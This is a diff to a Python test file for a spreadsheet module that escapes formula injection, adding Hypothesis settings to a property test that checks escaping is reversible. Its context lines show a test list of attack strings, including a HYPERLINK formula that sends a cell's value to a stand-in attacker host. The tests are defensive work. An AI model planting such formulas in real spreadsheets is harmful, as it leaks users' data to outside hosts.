@@ -3,7 +3,7 @@
 import io
 from decimal import Decimal
 
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
@@ -13,6 +13,7 @@ from familiennetz.core.spreadsheet import (
     restore_cell,
     xlsx_append,
 )
+from familiennetz.core.tests.examples import examples
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A2,"Klick")',
@@ -44,6 +45,7 @@ def test_numbers_stay_numbers_and_plain_text_is_untouched():
         assert not looks_like_formula(harmless)
 
 
+@settings(max_examples=examples(1000))
 @given(st.text(max_size=12, alphabet=st.sampled_from("'=+-@\t\rab 1")))
 def test_the_escape_is_reversible_for_every_text(text):
     assert restore_cell(neutralise_cell(text)) == text
